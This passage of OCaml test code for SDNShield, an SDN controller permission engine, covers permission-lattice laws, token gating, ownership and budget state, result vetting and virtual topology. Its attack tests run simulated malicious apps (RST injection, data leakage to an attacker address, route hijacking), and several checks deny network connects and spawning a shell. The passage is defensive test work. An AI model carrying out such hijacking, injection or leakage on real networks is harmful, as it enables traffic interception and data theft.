  Alcotest.(check bool) "⊇ rhs" true
    (Inclusion.manifest_includes m (manifest "PERM read_statistics"))

let test_complement () =
  let c = Perm_ops.complement m_mixed in
  (* Tokens absent from m appear unrestricted in the complement. *)
  Alcotest.(check bool) "absent token full" true
    (match Perm.find c Token.Host_network with
    | Some { Perm.filter = Filter.True; _ } -> true
    | _ -> false);
  (* visible_topology was unrestricted, so its complement is empty
     (dropped). *)
  Alcotest.(check bool) "full token gone" false (Perm.grants_token c Token.Visible_topology);
  (* insert_flow appears negated. *)
  (match Perm.find c Token.Insert_flow with
  | Some { Perm.filter = Filter.Not _; _ } -> ()
  | _ -> Alcotest.fail "expected negated filter")

let test_subtract () =
  let m = Perm_ops.subtract m_mixed (manifest "PERM read_statistics") in
  Alcotest.(check bool) "read_statistics removed" false
    (Perm.grants_token m Token.Read_statistics);
  Alcotest.(check bool) "others kept" true (Perm.grants_token m Token.Insert_flow);
  (* Subtracting a filtered perm keeps the residue. *)
  let r = Perm_ops.subtract m_flow_wide m_flow_narrow in
  (match Perm.find r Token.Insert_flow with
  | Some { Perm.filter = Filter.And (_, Filter.Not _); _ } -> ()
  | Some p -> Alcotest.failf "unexpected residue %s" (Filter.to_string p.Perm.filter)
  | None -> Alcotest.fail "token should remain")

let test_simplify () =
  let e = Test_util.filter_exn "OWN_FLOWS AND OWN_FLOWS AND TRUE" in
  Alcotest.(check bool) "idempotent and" true
    (Filter.equal_expr (Perm_ops.simplify_expr e) (Test_util.filter_exn "OWN_FLOWS"));
  let f = Test_util.filter_exn "OWN_FLOWS OR NOT OWN_FLOWS" in
  Alcotest.(check bool) "excluded middle" true (Perm_ops.simplify_expr f = Filter.True);
  let g = Test_util.filter_exn "ACTION DROP AND NOT ACTION DROP" in
  Alcotest.(check bool) "contradiction" true (Perm_ops.simplify_expr g = Filter.False);
  let h = Test_util.filter_exn "FALSE OR OWN_FLOWS" in
  Alcotest.(check bool) "identity" true
    (Filter.equal_expr (Perm_ops.simplify_expr h) (Test_util.filter_exn "OWN_FLOWS"))

(* Manifest generator for lattice laws. *)
let manifest_gen : Perm.manifest QCheck.Gen.t =
  let open QCheck.Gen in
  let perm_gen =
    map2
      (fun tok e -> { Perm.token = tok; filter = e })
      (oneofl Token.all) (Test_filters.expr_gen 2)
  in
  map Perm.normalize (list_size (int_range 0 5) perm_gen)

let manifest_arb = QCheck.make ~print:Perm.to_string manifest_gen

let env = Filter_eval.pure_env

(* Evaluate a manifest on a call: token granted AND filter passes. *)
let manifest_admits (m : Perm.manifest) call =
  let attrs = Attrs.of_call call in
  match Sdnshield.Engine.token_of_call call with
  | None -> true
  | Some token -> (
    match Perm.find m token with
    | None -> false
    | Some p -> Filter_eval.eval env p.Perm.filter attrs)

let qsuite =
  let count = 300 in
  [ QCheck.Test.make ~count ~name:"meet admits iff both admit"
      (QCheck.triple manifest_arb manifest_arb Test_filters.call_arb)
      (fun (a, b, call) ->
        manifest_admits (Perm_ops.meet a b) call
        = (manifest_admits a call && manifest_admits b call));
    QCheck.Test.make ~count ~name:"join admits iff either admits"
      (QCheck.triple manifest_arb manifest_arb Test_filters.call_arb)
      (fun (a, b, call) ->
        manifest_admits (Perm_ops.join a b) call
        = (manifest_admits a call || manifest_admits b call));
    QCheck.Test.make ~count ~name:"subtract admits iff a-and-not-b"
      (QCheck.triple manifest_arb manifest_arb Test_filters.call_arb)
      (fun (a, b, call) ->
        (* subtract semantics hold for calls gated by some token. *)
        match Sdnshield.Engine.token_of_call call with
        | None -> true
        | Some _ ->
          manifest_admits (Perm_ops.subtract a b) call
          = (manifest_admits a call && not (manifest_admits b call)));
    QCheck.Test.make ~count ~name:"meet is a lower bound (inclusion)"
      (QCheck.pair manifest_arb manifest_arb)
      (fun (a, b) ->
        let m = Perm_ops.meet a b in
        Inclusion.manifest_includes a m && Inclusion.manifest_includes b m);
    QCheck.Test.make ~count ~name:"join is an upper bound (inclusion)"
      (QCheck.pair manifest_arb manifest_arb)
      (fun (a, b) ->
        let j = Perm_ops.join a b in
        Inclusion.manifest_includes j a && Inclusion.manifest_includes j b);
    QCheck.Test.make ~count ~name:"meet commutative (semantics)"
      (QCheck.triple manifest_arb manifest_arb Test_filters.call_arb)
      (fun (a, b, call) ->
        manifest_admits (Perm_ops.meet a b) call
        = manifest_admits (Perm_ops.meet b a) call);
    QCheck.Test.make ~count ~name:"normalize preserves admission"
      (QCheck.pair manifest_arb Test_filters.call_arb)
      (fun (m, call) ->
        manifest_admits (Perm.normalize (m @ m)) call = manifest_admits m call) ]

let suite =
  [ Alcotest.test_case "meet keeps common tokens" `Quick test_meet_tokens;
    Alcotest.test_case "meet narrows" `Quick test_meet_narrows;
    Alcotest.test_case "join widens" `Quick test_join_widens;
    Alcotest.test_case "complement" `Quick test_complement;
    Alcotest.test_case "subtract" `Quick test_subtract;
    Alcotest.test_case "simplify" `Quick test_simplify ]
  @ List.map (QCheck_alcotest.to_alcotest ~long:false) qsuite
