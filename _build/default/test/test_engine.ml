(* Permission-engine tests (§VI-B): token gating, stateful filters
   (ownership, rule budgets), transactional rollback, result vetting
   (visibility filtering) and virtual-topology translation. *)

open Shield_openflow
open Shield_openflow.Types
open Shield_net
open Shield_controller
open Sdnshield

let ip = ipv4_of_string

let insert ?(dpid = 1) ?(priority = 100) ?(cookie = 0) ?(nw_dst = "10.13.1.2")
    ?(actions = [ Action.Output 1 ]) () =
  Api.Install_flow
    ( dpid,
      Flow_mod.add ~priority ~cookie
        ~match_:(Match_fields.make ~dl_type:Eth_ip ~nw_dst:(Match_fields.exact_ip (ip nw_dst)) ())
        ~actions () )

let delete ?(dpid = 1) ?(nw_dst = "10.13.1.2") () =
  Api.Install_flow
    ( dpid,
      Flow_mod.delete
        ~match_:(Match_fields.make ~nw_dst:(Match_fields.exact_ip (ip nw_dst)) ())
        () )

let test_missing_token_denied () =
  let e = Test_util.engine_of ~name:"a" ~cookie:1 "PERM read_statistics" in
  Test_util.check_deny "insert without token" (Engine.check e (insert ()));
  Test_util.check_allow "stats with token"
    (Engine.check e (Api.Read_stats (Stats.request Stats.Port_level)));
  let checks, denials = Engine.stats e in
  Alcotest.(check int) "checks counted" 2 checks;
  Alcotest.(check int) "denials counted" 1 denials

let test_filter_gating () =
  let e =
    Test_util.engine_of ~name:"a" ~cookie:1
      "PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0"
  in
  Test_util.check_allow "inside subnet" (Engine.check e (insert ()));
  Test_util.check_deny "outside subnet"
    (Engine.check e (insert ~nw_dst:"10.14.1.2" ()))

let test_insert_includes_modify_delete_separate () =
  let e = Test_util.engine_of ~name:"a" ~cookie:1 "PERM insert_flow" in
  (* Modify rides on insert_flow (Table II: "including insert and
     modify"), delete needs its own token. *)
  let modify =
    Api.Install_flow
      (1, Flow_mod.modify ~match_:Match_fields.wildcard_all ~actions:[] ())
  in
  Test_util.check_allow "modify via insert_flow" (Engine.check e modify);
  Test_util.check_deny "delete needs delete_flow" (Engine.check e (delete ()))

let test_event_tokens () =
  let e =
    Test_util.engine_of ~name:"a" ~cookie:1 "PERM pkt_in_event\nPERM flow_event"
  in
  Test_util.check_allow "pkt-in event"
    (Engine.check e (Api.Receive_event Api.E_packet_in));
  Test_util.check_allow "flow event" (Engine.check e (Api.Receive_event Api.E_flow));
  Test_util.check_deny "topology event"
    (Engine.check e (Api.Receive_event Api.E_topology));
  (* Inter-app events need no token. *)
  Test_util.check_allow "app event" (Engine.check e (Api.Receive_event (Api.E_app "x")));
  Test_util.check_allow "publish"
    (Engine.check e (Api.Publish_event { tag = "x"; payload = "" }))

let test_syscall_tokens () =
  let e = Test_util.engine_of ~name:"a" ~cookie:1 "PERM file_system" in
  Test_util.check_allow "file open"
    (Engine.check e (Api.Syscall (Api.File_open { path = "/tmp/x"; write = true })));
  Test_util.check_deny "net connect"
    (Engine.check e
       (Api.Syscall (Api.Net_connect { dst = ip "1.2.3.4"; dst_port = 80; payload = "" })));
  Test_util.check_deny "spawn"
    (Engine.check e (Api.Syscall (Api.Spawn_process "sh")))

let test_unresolved_macro_rejected () =
  let ownership = Ownership.create () in
  let m = Perm_parser.manifest_exn "PERM host_network LIMITING AdminRange" in
  Alcotest.check_raises "engine refuses stubs"
    (Invalid_argument
       "engine: manifest of a has unresolved macros: AdminRange")
    (fun () -> ignore (Engine.create ~ownership ~app_name:"a" ~cookie:1 m))

(* Ownership state --------------------------------------------------------------- *)

let two_engines () =
  let ownership = Ownership.create () in
  let alice =
    Test_util.engine_of ~ownership ~name:"alice" ~cookie:1
      "PERM insert_flow LIMITING OWN_FLOWS\nPERM delete_flow LIMITING OWN_FLOWS"
  in
  let bob =
    Test_util.engine_of ~ownership ~name:"bob" ~cookie:2
      "PERM insert_flow\nPERM delete_flow"
  in
  (alice, bob)

let test_ownership_blocks_overlap () =
  let alice, bob = two_engines () in
  (* Bob (unrestricted) installs a rule; Alice (own-flows-only) cannot
     overlap it, even with a fresh add. *)
  Test_util.check_allow "bob installs" (Engine.check bob (insert ~nw_dst:"10.13.1.2" ()));
  Test_util.check_deny "alice cannot shadow"
    (Engine.check alice (insert ~nw_dst:"10.13.1.2" ~priority:999 ()));
  Test_util.check_allow "alice elsewhere ok"
    (Engine.check alice (insert ~nw_dst:"10.13.9.9" ()));
  (* And she cannot delete his rule. *)
  Test_util.check_deny "alice cannot delete bob's"
    (Engine.check alice (delete ~nw_dst:"10.13.1.2" ()));
  (* She can delete her own. *)
  Test_util.check_allow "alice deletes hers"
    (Engine.check alice (delete ~nw_dst:"10.13.9.9" ()))

let test_ownership_delete_clears_state () =
  let alice, bob = two_engines () in
  Test_util.check_allow "bob installs" (Engine.check bob (insert ()));
  Test_util.check_allow "bob deletes" (Engine.check bob (delete ()));
  (* Once bob's rule is gone, alice may use the space. *)
  Test_util.check_allow "alice takes over" (Engine.check alice (insert ()))

let test_rule_count_budget () =
  let ownership = Ownership.create () in
  let e =
    Test_util.engine_of ~ownership ~name:"a" ~cookie:1
      "PERM insert_flow LIMITING MAX_RULE_COUNT 2\nPERM delete_flow"
  in
  Test_util.check_allow "1st" (Engine.check e (insert ~nw_dst:"10.0.0.1" ()));
  Test_util.check_allow "2nd" (Engine.check e (insert ~nw_dst:"10.0.0.2" ()));
  Test_util.check_deny "3rd over budget" (Engine.check e (insert ~nw_dst:"10.0.0.3" ()));
  (* Deleting frees budget. *)
  Test_util.check_allow "delete" (Engine.check e (delete ~nw_dst:"10.0.0.1" ()));
  Test_util.check_allow "3rd now fits" (Engine.check e (insert ~nw_dst:"10.0.0.3" ()))

let test_flow_removed_forget () =
  let ownership = Ownership.create () in
  let e =
    Test_util.engine_of ~ownership ~name:"a" ~cookie:1
      "PERM insert_flow LIMITING MAX_RULE_COUNT 1"
  in
  Test_util.check_allow "1st" (Engine.check e (insert ~nw_dst:"10.0.0.1" ()));
  Test_util.check_deny "budget full" (Engine.check e (insert ~nw_dst:"10.0.0.2" ()));
  (* The switch expired the rule (flow-removed): the engine learns. *)
  Ownership.forget ownership ~dpid:1
    ~match_:(Match_fields.make ~dl_type:Eth_ip ~nw_dst:(Match_fields.exact_ip (ip "10.0.0.1")) ())
    ~cookie:1;
  Test_util.check_allow "budget freed" (Engine.check e (insert ~nw_dst:"10.0.0.2" ()))

(* Transactions -------------------------------------------------------------------- *)

let test_transaction_rollback_state () =
  let ownership = Ownership.create () in
  let e =
    Test_util.engine_of ~ownership ~name:"a" ~cookie:1
      "PERM insert_flow LIMITING MAX_RULE_COUNT 2 AND IP_DST 10.0.0.0 MASK 255.0.0.0"
  in
  (* Transaction: two fine inserts then one out-of-subnet. *)
  (match
     Engine.check_transaction e
       [ insert ~nw_dst:"10.0.0.1" (); insert ~nw_dst:"10.0.0.2" ();
         insert ~nw_dst:"192.168.0.1" () ]
   with
  | Error (2, _) -> ()
  | Error (i, _) -> Alcotest.failf "wrong index %d" i
  | Ok () -> Alcotest.fail "expected failure");
  (* The two approved inserts rolled back: the budget is still empty. *)
  Alcotest.(check int) "state rolled back" 0 (Ownership.count ownership ~cookie:1 ~dpid:None);
  (* A conforming transaction commits its state. *)
  (match
     Engine.check_transaction e [ insert ~nw_dst:"10.0.0.1" (); insert ~nw_dst:"10.0.0.2" () ]
   with
  | Ok () -> ()
  | Error _ -> Alcotest.fail "clean transaction should pass");
  Alcotest.(check int) "committed" 2 (Ownership.count ownership ~cookie:1 ~dpid:None);
  (* Budget-aware: a third insert inside a new transaction fails and the
     earlier state survives. *)
  (match Engine.check_transaction e [ insert ~nw_dst:"10.0.0.3" () ] with
  | Error (0, _) -> ()
  | _ -> Alcotest.fail "expected budget denial");
  Alcotest.(check int) "unchanged" 2 (Ownership.count ownership ~cookie:1 ~dpid:None)

let test_transaction_intra_visibility () =
  (* Within a transaction, earlier calls' state is visible to later
     ones: two inserts exceed a budget of one even though each alone
     would pass. *)
  let e =
    Test_util.engine_of ~name:"a" ~cookie:1
      "PERM insert_flow LIMITING MAX_RULE_COUNT 1"
  in
  match
    Engine.check_transaction e [ insert ~nw_dst:"10.0.0.1" (); insert ~nw_dst:"10.0.0.2" () ]
  with
  | Error (1, _) -> ()
  | _ -> Alcotest.fail "second insert must see the first's budget use"

(* Result vetting ------------------------------------------------------------------- *)

let test_vet_flow_entries_ownership () =
  let e =
    Test_util.engine_of ~name:"a" ~cookie:1
      "PERM read_flow_table LIMITING OWN_FLOWS"
  in
  let entries =
    [ (1,
       [ { Stats.match_ = Match_fields.wildcard_all; priority = 1; cookie = 1;
           packet_count = 0L; byte_count = 0L; duration_sec = 0 };
         { Stats.match_ = Match_fields.wildcard_all; priority = 2; cookie = 2;
           packet_count = 0L; byte_count = 0L; duration_sec = 0 } ]) ]
  in
  match
    Engine.vet_result e
      (Api.Read_flow_table { dpid = None; pattern = None })
      (Api.Flow_entries entries)
  with
  | Api.Flow_entries [ (1, [ fs ]) ] ->
    Alcotest.(check int) "only own entry" 1 fs.Stats.cookie
  | r -> Alcotest.failf "unexpected vetting result: %a" Api.pp_result r

let test_vet_flow_entries_subnet () =
  let e =
    Test_util.engine_of ~name:"a" ~cookie:1
      "PERM read_flow_table LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0"
  in
  let entry nw_dst =
    { Stats.match_ =
        Match_fields.make ~nw_dst:(Match_fields.exact_ip (ip nw_dst)) ();
      priority = 1; cookie = 9; packet_count = 0L; byte_count = 0L;
      duration_sec = 0 }
  in
  match
    Engine.vet_result e
      (Api.Read_flow_table { dpid = None; pattern = None })
      (Api.Flow_entries [ (1, [ entry "10.13.1.1"; entry "10.14.1.1" ]) ])
  with
  | Api.Flow_entries [ (1, [ kept ]) ] ->
    Alcotest.(check bool) "in-subnet entry kept" true
      (Match_fields.equal kept.Stats.match_ (entry "10.13.1.1").Stats.match_)
  | r -> Alcotest.failf "unexpected: %a" Api.pp_result r

let test_vet_topology_switch_set () =
  let e =
    Test_util.engine_of ~name:"a" ~cookie:1
      "PERM visible_topology LIMITING SWITCH 1,2"
  in
  let topo = Topology.linear 4 in
  let view =
    { Api.switches = [ 1; 2; 3; 4 ];
      links =
        List.map (fun (l : Topology.link) -> (l.Topology.src, l.Topology.dst))
          (Topology.undirected_links topo);
      hosts = Topology.hosts topo }
  in
  match Engine.vet_result e Api.Read_topology (Api.Topology_of view) with
  | Api.Topology_of v ->
    Alcotest.(check (list int)) "switches filtered" [ 1; 2 ] v.Api.switches;
    Alcotest.(check int) "only s1-s2 link" 1 (List.length v.Api.links);
    Alcotest.(check int) "only attached hosts" 2 (List.length v.Api.hosts)
  | r -> Alcotest.failf "unexpected: %a" Api.pp_result r

let test_vet_stats_by_switch () =
  let e =
    Test_util.engine_of ~name:"a" ~cookie:1
      "PERM read_statistics LIMITING SWITCH 2"
  in
  let reply =
    Stats.Switch_stats
      [ { Stats.dpid = 1; flow_count = 1; total_packets = 0L; total_bytes = 0L };
        { Stats.dpid = 2; flow_count = 2; total_packets = 0L; total_bytes = 0L } ]
  in
  match
    Engine.vet_result e
      (Api.Read_stats (Stats.request Stats.Switch_level))
      (Api.Stats_result reply)
  with
  | Api.Stats_result (Stats.Switch_stats [ s ]) ->
    Alcotest.(check int) "only s2" 2 s.Stats.dpid
  | r -> Alcotest.failf "unexpected: %a" Api.pp_result r

(* Virtual topology ---------------------------------------------------------------------- *)

let vtopo_engine () =
  let topo = Topology.linear 3 in
  let e =
    Test_util.engine_of ~topo ~name:"tenant" ~cookie:1
      "PERM visible_topology LIMITING VIRTUAL SINGLE_BIG_SWITCH LINK EXTERNAL_LINKS\n\
       PERM insert_flow\nPERM read_statistics\nPERM send_pkt_out"
  in
  (topo, e)

let test_vtopo_check_confines_to_vswitch () =
  let _topo, e = vtopo_engine () in
  Test_util.check_allow "vswitch targetable"
    (Engine.check e (insert ~dpid:Filter_eval.virtual_big_switch_dpid ()));
  Test_util.check_deny "physical hidden" (Engine.check e (insert ~dpid:1 ()))

let test_vtopo_flow_translation () =
  let _topo, e = vtopo_engine () in
  (* The big switch's external ports are the three host ports, sorted:
     vport1=(s1,p3), vport2=(s2,p3), vport3=(s3,p3).  A rule from vport
     1 to vport 3 becomes per-hop rules at s1, s2, s3. *)
  let fm =
    Flow_mod.add
      ~match_:(Match_fields.make ~in_port:1 ~dl_type:Eth_ip ())
      ~actions:[ Action.Output 3 ] ()
  in
  let calls = Engine.rewrite e (Api.Install_flow (Filter_eval.virtual_big_switch_dpid, fm)) in
  let dpids =
    List.filter_map (function Api.Install_flow (d, _) -> Some d | _ -> None) calls
    |> List.sort compare
  in
  Alcotest.(check (list int)) "rules along path" [ 1; 2; 3 ] dpids;
  (* The egress hop emits on the physical host port. *)
  let egress =
    List.find_map
      (function
        | Api.Install_flow (3, f) -> Some f.Flow_mod.actions
        | _ -> None)
      calls
  in
  Alcotest.(check bool) "egress to host port" true
    (egress = Some [ Action.Output 3 ])

let test_vtopo_topology_view () =
  let _topo, e = vtopo_engine () in
  let view =
    match
      Engine.vet_result e Api.Read_topology
        (Api.Topology_of { Api.switches = [ 1; 2; 3 ]; links = []; hosts = [] })
    with
    | Api.Topology_of v -> v
    | _ -> Alcotest.fail "expected a view"
  in
  Alcotest.(check (list int)) "one big switch"
    [ Filter_eval.virtual_big_switch_dpid ]
    view.Api.switches;
  Alcotest.(check int) "all hosts mapped" 3 (List.length view.Api.hosts);
  List.iter
    (fun (h : Topology.host) ->
      Alcotest.(check int) "host on vswitch" Filter_eval.virtual_big_switch_dpid
        h.Topology.attachment.Topology.dpid)
    view.Api.hosts

let test_vtopo_stats_aggregation () =
  let _topo, e = vtopo_engine () in
  let call =
    Api.Read_stats (Stats.request ~dpid:Filter_eval.virtual_big_switch_dpid Stats.Switch_level)
  in
  (* The rewrite fans out to members... *)
  let calls = Engine.rewrite e call in
  Alcotest.(check int) "fanned out" 3 (List.length calls);
  (* ...and the results merge + aggregate into the big switch. *)
  let per_member d =
    Api.Stats_result
      (Stats.Switch_stats
         [ { Stats.dpid = d; flow_count = d; total_packets = 0L; total_bytes = 0L } ])
  in
  let combined = Engine.merge_results call [ per_member 1; per_member 2; per_member 3 ] in
  match Engine.vet_result e call combined with
  | Api.Stats_result (Stats.Switch_stats [ s ]) ->
    Alcotest.(check int) "vdpid" Filter_eval.virtual_big_switch_dpid s.Stats.dpid;
    Alcotest.(check int) "flows summed" 6 s.Stats.flow_count
  | r -> Alcotest.failf "unexpected: %a" Api.pp_result r

let test_vtopo_packet_out_translation () =
  let _topo, e = vtopo_engine () in
  let call =
    Api.Send_packet_out
      { dpid = Filter_eval.virtual_big_switch_dpid; port = 2;
        packet = Packet.arp ~src:1 ~dst:2 (); from_pkt_in = false }
  in
  match Engine.rewrite e call with
  | [ Api.Send_packet_out { dpid = 2; port = 3; _ } ] -> ()
  | _ -> Alcotest.fail "vport 2 should map to s2 host port"

(* Engine as checker (wired into a runtime) ---------------------------------------------- *)

let test_engine_in_runtime_end_to_end () =
  let topo = Topology.linear 2 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let ownership = Ownership.create () in
  let installs = ref [] in
  let app =
    App.make ~subscriptions:[ Api.E_packet_in ]
      ~handle:(fun ctx _ ->
        installs :=
          [ ctx.App.call (insert ~nw_dst:"10.13.0.1" ());
            ctx.App.call (insert ~nw_dst:"10.99.0.1" ()) ])
      "worker"
  in
  let checker =
    Test_util.checker_of ~ownership ~name:"worker" ~cookie:1
      "PERM pkt_in_event\nPERM read_payload\n\
       PERM insert_flow LIMITING IP_DST 10.13.0.0 MASK 255.255.0.0"
  in
  let rt = Runtime.create ~mode:(Runtime.Isolated { ksd_threads = 2 }) kernel [ (app, checker) ] in
  Runtime.feed_sync rt
    (Events.Packet_in
       { Message.dpid = 1; in_port = 1; packet = Packet.arp ~src:1 ~dst:2 ();
         reason = Message.No_match; buffer_id = None });
  Runtime.shutdown rt;
  (match !installs with
  | [ Api.Done; Api.Denied _ ] -> ()
  | rs -> Alcotest.failf "unexpected results: %a" Fmt.(list Api.pp_result) rs);
  let sw = Dataplane.switch dp 1 in
  Alcotest.(check int) "only conforming rule installed" 1
    (Flow_table.size sw.Switch.table)

let suite =
  [ Alcotest.test_case "missing token denied" `Quick test_missing_token_denied;
    Alcotest.test_case "filter gating" `Quick test_filter_gating;
    Alcotest.test_case "insert/modify/delete tokens" `Quick test_insert_includes_modify_delete_separate;
    Alcotest.test_case "event tokens" `Quick test_event_tokens;
    Alcotest.test_case "syscall tokens" `Quick test_syscall_tokens;
    Alcotest.test_case "unresolved macro rejected" `Quick test_unresolved_macro_rejected;
    Alcotest.test_case "ownership blocks overlap" `Quick test_ownership_blocks_overlap;
    Alcotest.test_case "ownership cleared by delete" `Quick test_ownership_delete_clears_state;
    Alcotest.test_case "rule-count budget" `Quick test_rule_count_budget;
    Alcotest.test_case "flow-removed frees budget" `Quick test_flow_removed_forget;
    Alcotest.test_case "transaction rollback" `Quick test_transaction_rollback_state;
    Alcotest.test_case "transaction intra-visibility" `Quick test_transaction_intra_visibility;
    Alcotest.test_case "vet: ownership visibility" `Quick test_vet_flow_entries_ownership;
    Alcotest.test_case "vet: subnet visibility" `Quick test_vet_flow_entries_subnet;
    Alcotest.test_case "vet: topology switch set" `Quick test_vet_topology_switch_set;
    Alcotest.test_case "vet: stats by switch" `Quick test_vet_stats_by_switch;
    Alcotest.test_case "vtopo: confinement" `Quick test_vtopo_check_confines_to_vswitch;
    Alcotest.test_case "vtopo: flow translation" `Quick test_vtopo_flow_translation;
    Alcotest.test_case "vtopo: topology view" `Quick test_vtopo_topology_view;
    Alcotest.test_case "vtopo: stats aggregation" `Quick test_vtopo_stats_aggregation;
    Alcotest.test_case "vtopo: packet-out translation" `Quick test_vtopo_packet_out_translation;
    Alcotest.test_case "engine in runtime e2e" `Quick test_engine_in_runtime_end_to_end ]
