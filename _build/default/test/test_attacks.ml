(* The paper's effectiveness experiment (§IX-B1) as tests: each of the
   four proof-of-concept malicious apps runs twice —

   1. on the unprotected baseline controller (allow-all checker), where
      the attack must SUCCEED (the "original Floodlight is vulnerable
      to all the attacks" half of the claim);
   2. under SDNShield with the Scenario-1/2 permissions, where the
      attack must FAIL (the "SDNShield-enabled Floodlight is immune"
      half).

   Plus the defenses of Table I: slicing lets same-slice attacks
   through; state analysis flags rule manipulation but not sniffing or
   leakage. *)

open Shield_openflow
open Shield_net
open Shield_controller
open Shield_apps

let host topo n = Option.get (Topology.host_by_name topo n)

(* Scenario-1 monitoring-app permissions, reconciled as in §VII: no
   insert_flow (truncated), network access only to the admin range. *)
let scenario1_checker ~ownership ~topo ~name ~cookie =
  match
    Sdnshield.Reconcile.run_strings ~app_name:name
      ~manifest_src:Monitoring.manifest_src
      ~policy_src:
        (Monitoring.policy_src ~switches:[ 1; 2; 3 ] ~admin_subnet:"10.1.0.0"
           ~admin_mask:"255.255.0.0")
  with
  | Ok (m, _) ->
    Sdnshield.Engine.checker
      (Sdnshield.Engine.create ~topo ~ownership ~app_name:name ~cookie m)
  | Error e -> Alcotest.fail e

(* Scenario-2 routing-app permissions (§VII), for the rule-manipulation
   attacks embedded in a "routing" app. *)
let scenario2_checker ~ownership ~topo ~name ~cookie =
  Test_util.checker_of ~ownership ~topo ~name ~cookie Routing.manifest_src

let setup ?(switches = 3) apps =
  let topo = Topology.linear switches in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let rt = Runtime.create ~mode:(Runtime.Isolated { ksd_threads = 2 }) kernel apps in
  (topo, dp, kernel, rt)

let http_pkt_in topo =
  let h1 = host topo "h1" and h2 = host topo "h2" in
  Events.Packet_in
    { Message.dpid = 1; in_port = h1.Topology.attachment.Topology.port;
      packet =
        Packet.http_request ~src:h1.Topology.mac ~dst:h2.Topology.mac
          ~nw_src:h1.Topology.ip ~nw_dst:h2.Topology.ip ~tp_src:5000 ();
      reason = Message.No_match; buffer_id = None }

(* Class 1: RST injection -------------------------------------------------------- *)

let test_rst_injection_baseline_succeeds () =
  let atk = Attacks.rst_injector () in
  let topo, _dp, kernel, rt = setup [ (atk.Attacks.app, Api.allow_all) ] in
  Runtime.feed_sync rt (http_pkt_in topo);
  Runtime.shutdown rt;
  Alcotest.(check int) "attempted" 1 !(atk.Attacks.injections_attempted);
  Alcotest.(check bool) "RST reached a host" true
    (Attacks.rst_delivered kernel ~app:"rst_injector")

let test_rst_injection_blocked_by_sdnshield () =
  let atk = Attacks.rst_injector () in
  let ownership = Sdnshield.Ownership.create () in
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let checker = scenario1_checker ~ownership ~topo ~name:"rst_injector" ~cookie:1 in
  let rt =
    Runtime.create ~mode:(Runtime.Isolated { ksd_threads = 2 }) kernel
      [ (atk.Attacks.app, checker) ]
  in
  Runtime.feed_sync rt (http_pkt_in topo);
  Runtime.shutdown rt;
  (* Without pkt_in_event the malicious app never even sees the HTTP
     session; no RST leaves the controller. *)
  Alcotest.(check bool) "no RST delivered" false
    (Attacks.rst_delivered kernel ~app:"rst_injector");
  Alcotest.(check int) "attack never ran" 0 !(atk.Attacks.injections_attempted)

let test_rst_injection_blocked_by_pkt_out_filter () =
  (* Even an app that IS allowed to see packet-ins cannot inject
     arbitrary packets when its send_pkt_out is limited to replays
     (FROM_PKT_IN) — the L2-switch least-privilege manifest. *)
  let atk = Attacks.rst_injector () in
  let ownership = Sdnshield.Ownership.create () in
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let checker =
    Test_util.checker_of ~ownership ~topo ~name:"rst_injector" ~cookie:1
      L2_switch.manifest_src
  in
  let rt = Runtime.create ~mode:Runtime.Monolithic kernel [ (atk.Attacks.app, checker) ] in
  Runtime.feed_sync rt (http_pkt_in topo);
  Runtime.shutdown rt;
  Alcotest.(check int) "attack ran" 1 !(atk.Attacks.injections_attempted);
  Alcotest.(check int) "pkt-out denied" 1 !(atk.Attacks.injections_denied);
  Alcotest.(check bool) "no RST delivered" false
    (Attacks.rst_delivered kernel ~app:"rst_injector")

(* Class 2: information leakage ---------------------------------------------------- *)

let test_leak_baseline_succeeds () =
  let atk = Attacks.info_leaker () in
  let _topo, _dp, kernel, rt = setup [ (atk.Attacks.app, Api.allow_all) ] in
  Runtime.feed_sync rt Attacks.tick_event;
  Runtime.shutdown rt;
  Alcotest.(check bool) "leak reached attacker" true
    (Attacks.leak_succeeded kernel.Kernel.sandbox ~app:"info_leaker"
       ~attacker_ip:atk.Attacks.attacker_ip)

let test_leak_blocked_by_sdnshield () =
  let atk = Attacks.info_leaker () in
  let ownership = Sdnshield.Ownership.create () in
  let topo = Topology.linear 3 in
  let kernel = Kernel.create (Dataplane.create topo) in
  let checker = scenario1_checker ~ownership ~topo ~name:"info_leaker" ~cookie:1 in
  let rt = Runtime.create ~mode:Runtime.Monolithic kernel [ (atk.Attacks.app, checker) ] in
  Runtime.feed_sync rt Attacks.tick_event;
  Runtime.shutdown rt;
  (* The app may read its visible topology (that IS its job) but the
     host-network filter confines connections to the admin range: the
     exfiltration socket is denied. *)
  Alcotest.(check int) "leak attempted" 1 !(atk.Attacks.leaks_attempted);
  Alcotest.(check bool) "nothing reached the attacker" false
    (Attacks.leak_succeeded kernel.Kernel.sandbox ~app:"info_leaker"
       ~attacker_ip:atk.Attacks.attacker_ip);
  Alcotest.(check bool) "denial audited" true
    (Sandbox.denied_actions kernel.Kernel.sandbox ~app:"info_leaker" <> [])

(* Class 3: route hijacking ----------------------------------------------------------- *)

let hijack_setup checker_for =
  (* Benign routing app + the hijacker targeting h1->h3 traffic through
     the attacker's host h2. *)
  let ownership = Sdnshield.Ownership.create () in
  let topo = Topology.linear 3 in
  let dp = Dataplane.create topo in
  let kernel = Kernel.create dp in
  let routing = Routing.create () in
  let victim = host topo "h3" in
  let atk =
    Attacks.route_hijacker ~victim_dst_ip:victim.Topology.ip ~mitm_host:"h2" ()
  in
  let rt =
    Runtime.create ~mode:Runtime.Monolithic kernel
      [ (Routing.app routing, Test_util.checker_of ~ownership ~topo ~name:"routing" ~cookie:1 Routing.manifest_src);
        (atk.Attacks.app, checker_for ~ownership ~topo) ]
  in
  Runtime.feed_sync rt Attacks.tick_event;
  Runtime.shutdown rt;
  (topo, dp, atk)

let test_hijack_baseline_succeeds () =
  let topo, dp, atk =
    hijack_setup (fun ~ownership:_ ~topo:_ -> Api.allow_all)
  in
  Alcotest.(check bool) "rules were installed" true (!(atk.Attacks.rules_attempted) > 0);
  Alcotest.(check bool) "traffic diverted to h2" true
    (Attacks.hijack_succeeded dp ~src:(host topo "h1") ~dst:(host topo "h3")
       ~mitm:(host topo "h2"))

let test_hijack_blocked_by_sdnshield () =
  (* Under Scenario-2 permissions (insert_flow LIMITING ACTION FORWARD
